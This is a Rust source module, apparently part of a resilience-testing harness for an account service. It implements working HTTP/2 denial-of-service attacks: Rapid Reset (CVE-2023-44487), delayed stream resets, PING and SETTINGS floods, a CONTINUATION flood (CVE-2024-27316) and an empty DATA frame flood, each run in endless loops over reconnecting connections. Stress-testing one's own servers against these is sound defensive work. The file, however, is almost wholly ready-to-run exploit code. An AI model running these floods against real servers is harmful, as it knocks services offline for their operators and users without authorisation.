//! Attacks with frames of HTTP/2 that cost little to send.

use std::future::Future;
use std::io;
use std::sync::Arc;
use std::time::Duration;

use super::http2::{
    CONTINUATION, Connection, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, frame,
    headers, request,
};
use super::{Scene, at_once};

/// Connections that each attack has at once.
const CONNECTIONS: usize = 8;

/// Frames that are written together.
const AT_ONCE: u32 = 500;

/// What a reading client asks for.
const LIST: &str = "/counterfoil.v1.AccountService/ListAccounts";

/// Connects again whenever the server has closed, and attacks.
async fn again<A: Future<Output = io::Result<()>> + Send + 'static>(
    scene: Arc<Scene>,
    attack: fn(Connection) -> A,
) {
    at_once(CONNECTIONS, move |_| {
        let scene = scene.clone();
        async move {
            loop {
                let open = Connection::open(&scene.clients, &scene.credential(), 65_535).await;
                if let Ok(connection) = open {
                    let _ = attack(connection).await;
                }
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
    })
    .await;
}

/// Ids of a client's streams, in order.
fn streams(from: u32) -> impl Iterator<Item = u32> {
    (0..AT_ONCE).map(move |number| from + 2 * number)
}

/// CVE-2023-44487.
pub async fn rapid_reset(scene: Arc<Scene>) {
    again(scene, |mut connection| async move {
        let (block, mut first) = (headers(LIST), 1);
        loop {
            let frames: Vec<u8> = streams(first)
                .flat_map(|id| {
                    let begun = frame(HEADERS, END_HEADERS, id, &block);
                    [begun, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
                })
                .collect();
            connection.write(&frames).await?;
            first += 2 * AT_ONCE;
        }
    })
    .await;
}

/// The same, when the server has begun to work on it.
pub async fn reset_later(scene: Arc<Scene>) {
    again(scene, |mut connection| async move {
        let mut first = 1;
        loop {
            let ids: Vec<u32> = streams(first).take(64).collect();
            let begun: Vec<u8> = ids.iter().flat_map(|id| request(*id, LIST, &[])).collect();
            connection.write(&begun).await?;
            tokio::time::sleep(Duration::from_millis(2)).await;
            let reset = |id: &u32| frame(RST_STREAM, 0, *id, &8_u32.to_be_bytes());
            connection.write(&ids.iter().flat_map(reset).collect::<Vec<_>>()).await?;
            first += 2 * 64;
        }
    })
    .await;
}

/// Each asks for an answer.
pub async fn pings(scene: Arc<Scene>) {
    again(scene, |mut connection| async move {
        let frames = frame(PING, 0, 0, &[7; 8]).repeat(1_000);
        loop {
            connection.write(&frames).await?;
        }
    })
    .await;
}

/// Each asks for an acknowledgement.
pub async fn settings(scene: Arc<Scene>) {
    again(scene, |mut connection| async move {
        let frames = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(1_000);
        loop {
            connection.write(&frames).await?;
        }
    })
    .await;
}

/// CVE-2024-27316 and its like.
pub async fn continuation(scene: Arc<Scene>) {
    again(scene, |mut connection| async move {
        connection.write(&frame(HEADERS, 0, 1, &headers(LIST))).await?;
        let more = frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']).repeat(1_000);
        loop {
            connection.write(&more).await?;
        }
    })
    .await;
}

/// RUSTSEC-2026-0258.
pub async fn empty_data(scene: Arc<Scene>) {
    again(scene, |mut connection| async move {
        connection.write(&frame(HEADERS, END_HEADERS, 1, &headers(LIST))).await?;
        let nothing = frame(DATA, 0, 1, &[]).repeat(1_000);
        loop {
            connection.write(&nothing).await?;
        }
    })
    .await;
}
